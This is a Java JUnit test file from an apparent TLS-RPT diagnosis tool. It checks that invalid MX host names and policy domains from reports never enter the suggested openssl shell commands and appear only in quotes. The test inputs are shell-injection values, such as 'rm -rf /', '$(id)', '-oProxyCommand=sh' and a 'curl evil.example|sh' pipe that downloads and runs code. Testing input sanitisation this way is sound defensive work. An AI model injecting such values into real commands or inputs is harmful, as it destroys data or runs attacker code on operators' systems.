package dev.tlsrpt.diagnose;

import static dev.tlsrpt.diagnose.DiagnosisTest.failures;
import static dev.tlsrpt.diagnose.Reports.failure;
import static dev.tlsrpt.diagnose.Reports.report;
import static dev.tlsrpt.diagnose.Reports.result;
import static org.assertj.core.api.Assertions.assertThat;

import dev.tlsrpt.TlsRpt;
import dev.tlsrpt.model.Policy;
import dev.tlsrpt.model.PolicyType;
import dev.tlsrpt.model.ResultType;
import dev.tlsrpt.model.TlsReport;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Commands built from sender data (issue 13, item 13): actions suggest commands an operator copies into a
 * shell, so a {@code receiving-mx-hostname} or {@code policy-domain} that is not a syntactically valid host
 * name (or IP literal) never enters one; the texts say the report names an invalid host instead. Sender
 * values that are not valid appear only quoted, in prose.
 */
class CommandsTest {

    static final String STARTTLS_TEST = "Test from outside with: openssl s_client -starttls smtp -connect ";

    static Policy sts(String domain, String... mx) {
        List<String> lines = new ArrayList<>(List.of("version: STSv1", "mode: enforce"));
        for (String m : mx) {
            lines.add("mx: " + m);
        }
        return Policy.of(PolicyType.STS, lines, domain, List.of());
    }

    static Finding one(Policy policy, ResultType type, @Nullable String mx) {
        // no receiving IP: the check commands connect to the MX host
        TlsReport r = report(result(policy, 10, 1, failure(type, mx, 1, null, "198.51.100.23", null)));
        return failures(TlsRpt.diagnose(r)).get(0);
    }

    @ParameterizedTest
    @ValueSource(strings = {"mx.example.com; rm -rf /", "$(id).example.com", "`id`.example.com", "mx example com",
        "mx.example.com && curl evil.example|sh", "-oProxyCommand=sh", "mx_1.example.com", "*.example.com",
        "mx..example.com", "mx.example.com'", "mx.example.com\nrm -rf /", "mx.-bad-.example.com"})
    void anInvalidMxHostNeverEntersACommand(String mx) {
        for (ResultType type : List.of(ResultType.STARTTLS_NOT_SUPPORTED, ResultType.CERTIFICATE_EXPIRED,
                ResultType.VALIDATION_FAILURE)) {
            Finding f = one(sts("example.com", "mail.example.com"), type, mx);

            assertThat(f.mxHost()).isEqualTo(mx);
            assertThat(f.action()).as(type + ": " + f.action())
                    .contains("openssl s_client -starttls smtp -connect <mx-host>:25 -servername <mx-host>")
                    .contains("The report names the MX host \"")
                    .contains("which is not a valid host name, so no command is built from it");
            for (String text : List.of(f.title(), f.explanation(), f.action())) {
                assertOnlyQuoted(text, mx);
            }
        }
        Finding tlsa = one(Policy.of(PolicyType.TLSA, List.of("3 1 1 00"), "example.com", List.of()),
                ResultType.TLSA_INVALID, mx);
        assertThat(tlsa.title()).startsWith("No TLSA record at _25._tcp.<mx-host> matches \"");
        assertOnlyQuoted(tlsa.action(), mx);
    }

    @Test
    void aValidMxHostEntersCommandsAsSentWithoutItsTrailingDot() {
        Finding f = one(sts("example.com", "mail.example.com"), ResultType.STARTTLS_NOT_SUPPORTED, "MX-1.Example.COM.");

        assertThat(f.action()).contains(STARTTLS_TEST + "MX-1.Example.COM:25 -servername MX-1.Example.COM")
                .doesNotContain("not a valid host name");
        assertThat(one(sts("example.com", "mail.example.com"), ResultType.TLSA_INVALID, "mx.example.com.").title())
                .isEqualTo("No TLSA record at _25._tcp.mx.example.com matches mx.example.com.");
    }

    @Test
    void anIpLiteralEntersCommandsAndAnIpv6OneIsBracketedAndQuoted() {
        assertThat(one(sts("example.com", "mail.example.com"), ResultType.STARTTLS_NOT_SUPPORTED, "192.0.2.25")
                .action()).contains(STARTTLS_TEST + "192.0.2.25:25 -servername 192.0.2.25");
        assertThat(one(sts("example.com", "mail.example.com"), ResultType.STARTTLS_NOT_SUPPORTED, "2001:db8::25")
                .action()).contains(STARTTLS_TEST + "'[2001:db8::25]':25 -servername '[2001:db8::25]'");
    }

    @Test
    void anInternationalizedMxHostEntersCommandsAsItsALabels() {
        Finding f = one(sts("example.com", "mail.example.com"), ResultType.STARTTLS_NOT_SUPPORTED, "mx.b\u00fccher.example");

        assertThat(f.title()).isEqualTo("mx.b\u00fccher.example does not offer STARTTLS");
        assertThat(f.action()).contains(STARTTLS_TEST + "mx.xn--bcher-kva.example:25 -servername mx.xn--bcher-kva.example");
    }

    @Test
    void withoutReceivingMxHostOnlyASinglePlainPatternEntersACommand() {
        assertThat(one(sts("example.com", "mail.example.com"), ResultType.STARTTLS_NOT_SUPPORTED, null).action())
                .contains(STARTTLS_TEST + "mail.example.com:25 -servername mail.example.com");
        Finding two = one(sts("example.com", "mx1.example.com", "mx2.example.com"), ResultType.STARTTLS_NOT_SUPPORTED,
                null);
        assertThat(two.action()).contains(STARTTLS_TEST + "<mx-host>:25 -servername <mx-host>")
                .doesNotContain("not a valid host name");
        assertThat(one(sts("example.com", "*.example.com"), ResultType.STARTTLS_NOT_SUPPORTED, null).action())
                .contains(STARTTLS_TEST + "<mx-host>:25 -servername <mx-host>");
        Finding bad = one(sts("example.com", "mx.example.com;reboot"), ResultType.STARTTLS_NOT_SUPPORTED, null);
        assertThat(bad.action()).contains(STARTTLS_TEST + "<mx-host>:25 -servername <mx-host>");
        assertOnlyQuoted(bad.action(), "reboot");
    }

    @ParameterizedTest
    @ValueSource(strings = {"example.com; rm -rf /", "$(id)", "`id`", "exa mple.com", "example.com/evil?x=",
        "-oProxyCommand=sh", "example..com", "example.com'"})
    void anInvalidPolicyDomainNeverEntersACommandOrAUrl(String domain) {
        Finding fetch = one(sts(domain, "mail.example.com"), ResultType.STS_POLICY_FETCH_ERROR, null);
        assertThat(fetch.title()).startsWith("The MTA-STS policy of \"");
        assertThat(fetch.action()).contains("serves https://mta-sts.<policy-domain>/.well-known/mta-sts.txt")
                .contains("_mta-sts.<policy-domain> has exactly one TXT record")
                .contains("The report names the policy domain \"")
                .contains("which is not a valid domain name, so no command, DNS name or URL is built from it");
        Finding webpki = one(sts(domain, "mail.example.com"), ResultType.STS_WEBPKI_INVALID, null);
        assertThat(webpki.action())
                .contains("openssl s_client -connect mta-sts.<policy-domain>:443 -servername mta-sts.<policy-domain>");
        Finding none = TlsRpt.diagnose(report(result(Policy.of(PolicyType.NO_POLICY_FOUND, List.of(), domain,
                List.of()), 10, 0))).findings().get(0);
        assertThat(none.action()).contains("a TXT record _mta-sts.<policy-domain>")
                .contains("Keep the _smtp._tls.<policy-domain> TXT record");
        for (Finding f : List.of(fetch, webpki, none)) {
            for (String text : List.of(f.title(), f.explanation(), f.action())) {
                assertOnlyQuoted(text, domain);
            }
        }
    }

    /** The sender's value, and every dangerous part of it, appears in the text only between double quotes. */
    static void assertOnlyQuoted(String text, String value) {
        String unquoted = text.replaceAll("\"[^\"]*\"", "\"\"");
        for (String part : List.of(value.strip(), "rm -rf", "$(id)", "`id`", "curl evil", "ProxyCommand", "reboot",
                "mx example com", "exa mple", "/evil?", "mx_1", "mx..", "example..com")) {
            if (value.contains(part) && !part.isEmpty()) {
                assertThat(unquoted).as("%s outside quotes in: %s", part, text).doesNotContain(part);
            }
        }
    }
}
